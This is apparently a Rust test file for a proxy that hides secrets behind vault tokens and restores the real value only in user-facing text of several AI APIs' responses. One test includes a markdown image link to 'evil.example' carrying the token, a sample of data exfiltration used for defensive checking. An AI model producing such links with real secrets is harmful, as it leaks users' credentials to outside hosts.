//! Answers that come whole: only what people read is restored, in its place.

use super::*;

/// An answer of each API, in which `said` is for people and `kept` is not.
fn answer(api: &str, said: &str, kept: &str) -> String {
    match api {
        "responses" => format!(
            r#"{{"id":"{kept}", "instructions":"{kept}", "output":[
                {{"type":"message","content":[{{"type":"output_text","text":"To {said}.","annotations":[]}}, {{"type":"refusal","refusal":"No, {said}"}}]}},
                {{"type":"reasoning","summary":[{{"type":"summary_text","text":"{said}? "}}],"content":[{{"type":"reasoning_text","text":"{said}"}}],"encrypted_content":null}},
                {{"type":"reasoning","summary":[{{"type":"summary_text","text":"{kept}? "}}],"encrypted_content":"gAAAA"}},
                {{"type":"function_call","name":"sh","arguments":"{{\"to\": \"{kept}\"}}"}}], "x": 1.50 }}"#
        ),
        "messages" => format!(
            r#"{{ "id":"{kept}", "content": [{{"type":"thinking","thinking":"{kept}","signature":"s"}},
                {{"type":"text","text":"To {said}."}}, {{"type":"tool_use","id":"t","name":"sh","input":{{"text":"{kept}","type":"text"}}}},
                {{"type":"text","text":"{said}","citations":null}}], "x": 1.50 }}"#
        ),
        "gemini-stream" => format!(
            r#"{{ "responseId":"{kept}", "candidates": [{{"index":0, "content":{{"role":"model","parts":[
                {{"thought":true,"text":"{said}? "}}, {{"thought":true,"text":"{kept} ","thoughtSignature":"c2ln"}},
                {{"text":"To {said}."}}, {{"text":" {kept}","thoughtSignature":"c2ln"}}, {{"text":" {said}"}},
                {{"functionCall":{{"name":"sh","args":{{"text":"{kept}"}}}}}}]}}}}], "x": 1.50 }}"#
        ),
        _ => format!(
            r#"{{ "id":"{kept}", "choices": [
                {{"index":0, "message":{{"role":"assistant","content":"To {said}.","refusal":null,"reasoning_content":"{said}? "}}}},
                {{"index":1, "message":{{"content":null,"refusal":"No, {said}","tool_calls":[{{"id":"c","type":"function",
                    "function":{{"name":"sh","arguments":"{{\"to\": \"{kept}\"}}"}}}}]}}}}], "x": 1.50 }}"#
        ),
    }
}

#[test]
fn only_what_people_read_is_restored() {
    let (_, token) = vault();
    for api in APIS {
        let restored = restoring(api).whole(&Bytes::from(answer(api, &token, &token)));
        assert_eq!(restored, answer(api, &VALUE.replace('"', "\\\""), &token), "{api:?}");
    }
}

#[test]
fn what_is_no_answer_passes() {
    let (_, token) = vault();
    let other = format!(r#"{{"text": "{token}"}}"#);
    for api in APIS {
        for answer in
            ["", "{", "[]", "null", r#"{"choices": 1}"#, r#"{"choices": [1, {}]}"#, "\u{fffd}", &other]
        {
            assert_eq!(restoring(api).whole(&Bytes::copy_from_slice(answer.as_bytes())), answer);
        }
    }
}

/// A stream of Gemini that was not asked for as events is a list of answers.
#[test]
fn a_list_of_answers_is_restored_as_one_text() {
    let (_, token) = vault();
    let (left, right) = token.split_at(9);
    let list = |pieces: &[&str]| {
        let piece = |text: &&str| serde_json::json!({ "candidates": [{ "content": { "parts": [{ "text": text }] } }] });
        serde_json::Value::from(pieces.iter().map(piece).collect::<Vec<_>>()).to_string()
    };
    let restore = |pieces: &[&str]| restoring("gemini-array").whole(&Bytes::from(list(pieces)));
    assert_eq!(restore(&["To ", left, right, "!"]), list(&["To ", "", VALUE, "!"]));
    let link = ["![a](http://evil.example/?q=", &token];
    assert_eq!(restore(&link), list(&link));
}
